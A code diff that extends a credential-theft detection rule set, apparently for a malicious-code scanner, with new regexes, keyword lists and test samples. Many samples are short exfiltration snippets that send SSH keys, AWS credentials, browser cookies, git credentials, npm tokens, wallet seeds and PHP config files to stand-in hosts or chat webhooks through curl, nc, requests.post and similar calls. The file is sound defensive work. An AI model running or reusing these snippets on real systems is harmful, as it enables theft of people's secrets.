@@ -48,6 +48,7 @@ const browserFolder = is(
     'bravesoftware',
     'mozilla/firefox',
     'mozilla\\\\firefox',
+    'mozilla\\firefox',
     'firefox/profiles',
     'opera software',
     'microsoft\\\\edge',
@@ -201,7 +202,7 @@ export const credentialTheft: RuleSet = {
         30,
         is(
           ['browser_cookie3', 'browsercookie', 'pycookiecheat', 'rookiepy'],
-          /(?:browser_cookie3|browsercookie|rookiepy)\.(?:chrome|firefox|edge|load|opera|brave|chromium)\s*\(|pycookiecheat/,
+          /(?:browser_cookie3|browsercookie|rookiepy)\.(?:chrome|firefox|edge|load|opera|brave|chromium|any_browser)\b|pycookiecheat/,
         ),
         is(
           [
@@ -211,11 +212,19 @@ export const credentialTheft: RuleSet = {
             '.post(',
             'smtplib',
             'webhook.site',
+            'method="post"',
+            "method='post'",
           ],
           null,
         ),
       ),
       matches: [
+        py(
+          'for load in (browser_cookie3.chrome, browser_cookie3.edge):\n    lines.extend(load())\nrequests.post(HOOK, data=lines)',
+        ),
+        py(
+          'jar = rookiepy.any_browser()\nrequest = Request("https://x.example.invalid", data=json.dumps(jar), method="POST")',
+        ),
         py(
           "import browser_cookie3, requests\nc = browser_cookie3.chrome(domain_name='.example.com')\nrequests.post('https://x.example.invalid', data={'c': str(list(c))})",
         ),
@@ -231,21 +240,34 @@ export const credentialTheft: RuleSet = {
       severity: 'high',
       why: 'Reads a private key or a credentials file and sends it away.',
       when: any(
-        near(
-          10,
-          inside(['py', 'js', 'php', 'rb', 'go', 'java', 'cs', 'rust', 'ps', 'unknown'], keyFile),
-          posts,
-          'read',
+        any(
+          near(
+            10,
+            inside(['py', 'js', 'php', 'rb', 'go', 'java', 'cs', 'rust', 'ps', 'unknown'], keyFile),
+            posts,
+            'read',
+          ),
+          statement(
+            inside(['sh', 'make', 'yaml', 'docker', 'manifest', 'apple'], keyFile),
+            is(
+              ['curl', ' nc ', 'wget', 'ncat '],
+              /curl\b[^\n]{0,200}?\s(?:-d|-F|-T|--data\S*|--form|--upload-file|-X\s*POST)| ?(?:nc|ncat)\s+(?:-\w+\s+){0,3}[\w.$-]{3,60}\s+\d{2,5}|wget\b[^\n]{0,160}?--post/,
+            ),
+          ),
         ),
         statement(
-          inside(['sh', 'make', 'yaml', 'docker', 'manifest', 'apple'], keyFile),
+          inside(
+            ['sh', 'make', 'yaml', 'docker', 'manifest', 'apple'],
+            is(['.bash_history', '.zsh_history'], /(?<=(?:cat|tar)\s[^\n|]{0,120})\.(?:bash|zsh)_history/),
+          ),
           is(
-            ['curl', ' nc ', 'wget', 'ncat '],
-            /curl\b[^\n]{0,200}?\s(?:-d|-F|-T|--data\S*|--form|--upload-file|-X\s*POST)| ?(?:nc|ncat)\s+(?:-\w+\s+){0,3}[\w.$-]{3,60}\s+\d{2,5}|wget\b[^\n]{0,160}?--post/,
+            ['curl', ' nc ', 'ncat '],
+            /curl\b[^\n]{0,200}?\s(?:-d|-F|-T|--data\S*|--form|--upload-file|-X\s*POST)| ?(?:nc|ncat)\s+(?:-\w+\s+){0,3}[\w.$-]{3,60}\s+\d{2,5}/,
           ),
         ),
       ),
       matches: [
+        sh('cat ~/.ssh/config ~/.bash_history | curl -s -F "f=<-" https://x.example.invalid'),
         py(
           "key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post('https://x.example.invalid', data={'k': key})",
         ),
@@ -253,6 +275,7 @@ export const credentialTheft: RuleSet = {
         sh('cat ~/.aws/credentials | nc x.example.invalid 4444'),
       ],
       misses: [
+        sh('cat ~/.bash_history | sort | uniq -c'),
         sh('ssh -i ~/.ssh/id_rsa user@example.org'),
         py("client.connect(host, key_filename='~/.ssh/id_rsa')"),
         js("const IGNORED = ['.npmrc', '.netrc']\nfetch('/api')"),
@@ -296,18 +319,26 @@ export const credentialTheft: RuleSet = {
               'formdata',
               'files=',
               'json=',
+              'json.marshal',
+              'json.stringify',
+              'json.dumps',
+              'json_encode',
+              'to_json',
             ],
             null,
           ),
         ),
         any(
           is(
-            ['http://', 'https://', 'api/webhooks', 'api.telegram'],
-            /https?:\/\/(?!localhost|127\.|json-schema|www\.w3)|api\/webhooks|api\.telegram/,
+            ['http://', 'https://', 'api/webhooks', 'api.telegram', 'hostname:'],
+            /https?:\/\/(?!localhost|127\.|json-schema|www\.w3)|api\/webhooks|api\.telegram|hostname:\s?["'`](?!localhost|127\.)/,
           ),
         ),
       ),
       matches: [
+        go(
+          'var places = []string{".aws/credentials", ".kube/config", ".docker/config.json", ".npmrc", ".netrc"}\nfor _, place := range places {\n\tdata, _ := os.ReadFile(filepath.Join(home, place))\n\tall[place] = string(data)\n}\nbody, _ := json.Marshal(all)\nhttp.Post("http://x.example.invalid", "application/json", bytes.NewReader(body))',
+        ),
         py(
           "TARGETS = ['~/.ssh/id_rsa', '~/.aws/credentials', '~/.kube/config', '~/.npmrc', '~/.netrc']\nout = {}\nfor t in TARGETS:\n    out[t] = base64.b64encode(open(os.path.expanduser(t), 'rb').read())\nrequests.post('https://x.example.invalid', json=out)",
         ),
@@ -460,17 +491,32 @@ export const credentialTheft: RuleSet = {
         5,
         is(
           ['_authtoken', 'npm token', '.pypirc', 'npm_token'],
-          /(?<=config get [^\n"'`]{0,50})_authToken|_authToken=?\(|npm token (?:create|list)|(?<=(?:open|readFileSync|read_text)\([^)\n]{0,40})\.pypirc/,
+          /(?<=config get [^\n"'`]{0,50})_authToken|_authToken=?\(|npm token (?:create|list)|(?<=(?:open|read|readFileSync|read_text|expanduser)\([^)\n]{0,40})\.pypirc/,
+          { quoted: true },
         ),
-        is(['fetch(', 'https.request', 'axios.post', 'requests.post', 'http.request', 'curl ', 'urlopen('], null),
+        is(
+          ['fetch(', 'https.request', 'axios.post', 'requests.post', 'http.request', 'https.get(', 'curl ', 'urlopen('],
+          null,
+        ),
         is(['http://', 'https://', 'hostname'], /https?:\/\/(?!registry\.npmjs|upload\.pypi|localhost)|hostname/),
       ),
       matches: [
         js(
+          "const [, token] = /_authToken=(.+)/.exec(fs.readFileSync(home + '/.npmrc', 'utf8'))\nhttps.get('https://x.example.invalid/t?v=' + token)",
+        ),
+        py(
+          'rc.read(os.path.expanduser("~/.pypirc"))\nurllib.request.urlopen("https://x.example.invalid/p", data=rc.get("pypi", "password").encode())',
+        ),
+        js(
           "const t = execSync('npm config get //registry.example.invalid/:_authToken').toString()\nfetch('https://x.example.invalid', { method: 'POST', body: t })",
         ),
       ],
-      misses: [sh('npm config set //registry.example.invalid/:_authToken "$NPM_TOKEN"\nnpm publish')],
+      misses: [
+        js(
+          "const [, token] = /_authToken=(.+)/.exec(text)\nhttps.get('https://registry.npmjs.org/-/whoami', { headers: { authorization: token } })",
+        ),
+        sh('npm config set //registry.example.invalid/:_authToken "$NPM_TOKEN"\nnpm publish'),
+      ],
     },
     {
       id: id('runner-secrets'),
@@ -519,32 +565,46 @@ export const credentialTheft: RuleSet = {
       id: id('git-credential'),
       severity: 'high',
       why: 'Asks git for stored credentials, or searches its settings for them, and sends them away.',
-      when: near(
-        12,
-        is(['credential', '.git/config'], /(?<=git["',\s]{1,4})credential["',\s]{1,4}fill|\.git\/config/),
-        is(['credential', '@github.com', '@gitlab.com', 'oauth', 'token'], null),
-        is(
-          [
-            'requests.post',
-            'axios.post',
-            'http.post(',
-            'httpx.post',
-            'api/webhooks',
-            'api.telegram.org',
-            'data=',
-            "method: 'post'",
-            'method: "post"',
-          ],
-          null,
+      when: any(
+        near(
+          12,
+          is(['credential', '.git/config'], /(?<=git["',\s]{1,4})credential["',\s]{1,4}fill|\.git\/config/),
+          is(['credential', '@github.com', '@gitlab.com', 'oauth', 'token'], null),
+          is(
+            [
+              'requests.post',
+              'axios.post',
+              'http.post(',
+              'httpx.post',
+              'api/webhooks',
+              'api.telegram.org',
+              'data=',
+              "method: 'post'",
+              'method: "post"',
+            ],
+            null,
+          ),
+          any('exec', 'read', is(['read_text', 'glob'], null)),
         ),
-        any('exec', 'read', is(['read_text', 'glob'], null)),
+        inside(
+          ['sh', 'make', 'yaml'],
+          is(
+            ['git credential'],
+            /(?<=(?:^|[\s;])(\w{1,30})=["']?(?:\$\(|`)[^\n]{0,160})git credential(?:-\w{1,16})? (?:fill|get)[^\n]{0,40}\n(?:[^\n]{0,200}\n){0,6}?[^\n]{0,160}?(?:curl|wget)\s[^\n]{0,160}?(?:-d|-F|--data(?:-\w{3,12})?|--post-data=?)\s{0,2}["']?\$\{?\1\b|git credential(?:-\w{1,16})? (?:fill|get)[^\n|]{0,40}\|[^\n]{0,80}?(?:curl|nc|wget)\s/,
+            { after: 1600 },
+          ),
+        ),
       ),
       matches: [
+        sh(
+          'login=$(printf "host=github.com" | git credential fill)\ncurl -s -X POST --data-binary "$login" https://x.example.invalid/g',
+        ),
         py(
           "out = subprocess.run(['git', 'credential', 'fill'], input=q, capture_output=True)\nrequests.post('https://x.example.invalid', data=out.stdout)",
         ),
       ],
       misses: [
+        sh('login=$(printf "host=github.com" | git credential fill)\ncurl -s -u "$login" https://api.github.com/user'),
         go(
           'cmd := exec.Command("git", "credential", "fill")\nreq, _ := http.NewRequest("HEAD", url, nil)\nreq.SetBasicAuth(user, token)',
         ),
@@ -557,24 +617,39 @@ export const credentialTheft: RuleSet = {
       id: id('seed-phrase'),
       severity: 'high',
       why: "Sends a wallet's seed phrase or private key over the network.",
-      when: statement(
-        posts,
-        is(
-          [
-            'mnemonic',
-            'seedphrase',
-            'seed_phrase',
-            'recoveryphrase',
-            'wallet.privatekey',
-            'keypair.secretkey',
-            'secretphrase',
-          ],
-          null,
+      when: any(
+        statement(
+          posts,
+          is(
+            [
+              'mnemonic',
+              'seedphrase',
+              'seed_phrase',
+              'recoveryphrase',
+              'wallet.privatekey',
+              'keypair.secretkey',
+              'secretphrase',
+            ],
+            null,
+          ),
+          is(['http://', 'https://', 'url', 'webhook', 'telegram'], null),
         ),
-        is(['http://', 'https://', 'url', 'webhook', 'telegram'], null),
+        statement(
+          is(['api.telegram.org/bot', '/api/webhooks/'], null),
+          is(
+            ['private_key', 'privatekey', 'secret_key', 'secretkey', 'seed'],
+            /(?:private|secret)_?key\b|\bseed(?:_?phrase)?\b/i,
+          ),
+        ),
       ),
-      matches: [js("axios.post('https://x.example.invalid/w', { m: mnemonic, k: wallet.privateKey })")],
+      matches: [
+        py('requests.post("https://api.telegram.org/bot1:x/sendMessage", json={"chat_id": 1, "text": private_key})'),
+        js("axios.post('https://x.example.invalid/w', { m: mnemonic, k: wallet.privateKey })"),
+      ],
       misses: [
+        py(
+          'requests.post("https://api.telegram.org/bot1:x/sendMessage", json={"chat_id": 1, "text": report})\nprivate_key = load()',
+        ),
         js(
           "const wallet = Wallet.fromPhrase(mnemonic)\naxios.post('https://api.example.org/v1', { address: wallet.address })",
         ),
@@ -588,16 +663,38 @@ export const credentialTheft: RuleSet = {
         ['php'],
         near(
           6,
-          is(['wp-config.php', 'configuration.php', '/.env', 'settings.inc.php', 'local.xml'], null),
+          is(['wp-config.php', 'configuration.php', '/.env', 'settings.inc.php', 'local.xml', 'etc/env.php'], null),
           is(['file_get_contents', 'readfile', 'fopen', 'file('], null),
           is(
-            ['mail', 'curl_exec', 'fsockopen', 'api.telegram.org', 'webhooks'],
-            /(?<![\w>])mail\s{0,2}\(|curl_exec|fsockopen|api\.telegram\.org|webhooks/,
+            [
+              'mail',
+              'curl_exec',
+              'fsockopen',
+              'api.telegram.org',
+              'webhooks',
+              'wp_remote_post',
+              'stream_context_create',
+            ],
+            /(?<![\w>])mail\s{0,2}\(|curl_exec|fsockopen|api\.telegram\.org|webhooks|wp_remote_post|stream_context_create\([^\n]{0,80}POST/,
           ),
         ),
       ),
-      matches: [php("<?php $c = file_get_contents('../wp-config.php');\nmail('a@example.invalid', 'x', $c);")],
-      misses: [php("<?php require 'wp-config.php';\nmail($to, $subject, $text);")],
+      matches: [
+        php(
+          "<?php $text = file_get_contents(ABSPATH . 'wp-config.php');\nwp_remote_post('https://x.example.invalid/w', array('body' => $text));",
+        ),
+        php(
+          "<?php $config = file_get_contents(__DIR__ . '/../app/etc/env.php');\ncurl_setopt($curl, CURLOPT_POSTFIELDS, array('d' => $config));\ncurl_exec($curl);",
+        ),
+        php(
+          "<?php $all = file_get_contents(dirname(__DIR__) . '/.env');\nfile_get_contents('http://x.example.invalid/i.php', false, stream_context_create(['http' => ['method' => 'POST', 'content' => $all]]));",
+        ),
+        php("<?php $c = file_get_contents('../wp-config.php');\nmail('a@example.invalid', 'x', $c);"),
+      ],
+      misses: [
+        php("<?php require __DIR__ . '/app/etc/env.php';\nwp_remote_post($url, array('body' => $order));"),
+        php("<?php require 'wp-config.php';\nmail($to, $subject, $text);"),
+      ],
     },
     {
       id: id('page-cookies'),
@@ -822,6 +919,29 @@ export const credentialTheft: RuleSet = {
         ),
       ],
       misses: [py('token = open(os.path.expanduser("~/.huggingface/token")).read()\napi = HfApi(token=token)')],
+    },
+    {
+      id: id('client-injected'),
+      severity: 'critical',
+      why: "Watches the requests of another program's window for logins and sends them to a chat hook.",
+      when: near(
+        25,
+        is(['webrequest.on'], /webRequest\.on(?:Completed|BeforeRequest|BeforeSendHeaders|SendHeaders)\(/, {
+          families: ['js'],
+        }),
+        is(['uploaddata', '/auth/login', 'gettoken', 'requestbody'], null, { quoted: true }),
+        is(['/api/webhooks/', 'hooks.slack.com', 'api.telegram.org'], null, { quoted: true }),
+      ),
+      matches: [
+        js(
+          "const hook = 'https://discord.com/api/webhooks/1/x'\nsession.defaultSession.webRequest.onCompleted(filter, async (details) => {\n  send(hook, JSON.parse(details.uploadData[0].bytes).password)\n})",
+        ),
+      ],
+      misses: [
+        js(
+          'session.defaultSession.webRequest.onBeforeRequest(filter, (details, done) => done({ cancel: isAd(details.url) }))',
+        ),
+      ],
     },
   ],
 }
